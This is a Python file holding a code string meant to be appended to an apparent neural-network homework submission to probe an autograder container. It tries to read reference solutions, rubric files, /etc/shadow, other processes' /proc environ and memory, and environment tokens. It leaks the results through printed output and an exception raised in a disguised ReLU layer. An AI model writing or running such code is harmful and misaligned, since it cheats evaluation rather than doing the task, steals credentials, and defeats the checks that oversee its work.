"""Code appended to a submission to look for secrets in a container."""

SPY = """

def _look():
    import os
    import sys
    found = []
    places = [
        "/opt/autograder/app", "/opt/autograder/app/reference", "/autograder/source",
        "/autograder/source/reference", "/autograder/results", "/autograder/submission",
        "/autograder/submission_metadata.json", "/autograder/results/results.json",
        "/opt/autograder/app/grader/assignment/homework/rubric.py",
        "/opt/autograder/app/reference/layers.py",
        "/opt/autograder/app/reference/mistakes", "/opt/autograder/app/reference/alternatives",
        "/root", "/root/.cache", "/etc/shadow",
    ]
    for place in places:
        for look in (os.listdir, lambda path: open(path).read()):
            try:
                look(place)
                found.append(place)
            except OSError:
                pass
    for path in sys.path:
        for name in ("reference", "grader", "catalogue"):
            if os.path.exists(os.path.join(path, name)):
                found.append(os.path.join(path, name))
    for name in ("reference", "reference.layers", "grader.answers", "grader.assignment"):
        try:
            __import__(name)
            found.append("import " + name)
        except BaseException:
            pass
    try:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            if int(pid) != os.getpid():
                for name in ("environ", "mem", "maps", "cwd/grader", "root/opt/autograder/app"):
                    try:
                        open(f"/proc/{pid}/{name}", "rb").read(1)
                        found.append(f"/proc/{pid}/{name}")
                    except OSError:
                        pass
    except OSError:
        pass
    secrets = [k for k in os.environ if "TOKEN" in k or "AUTOGRADER" in k or k.startswith("PIP_")]
    return found + secrets


_seen = _look()
print("SPY: " + (", ".join(map(str, _seen)) or "nothing"))


class ReLU(Activation):
    def forward(self, Z):
        raise ValueError("SPY: " + (", ".join(map(str, _seen)) or "nothing"))

    def backward(self, Z, dY):
        raise ValueError("SPY")
"""
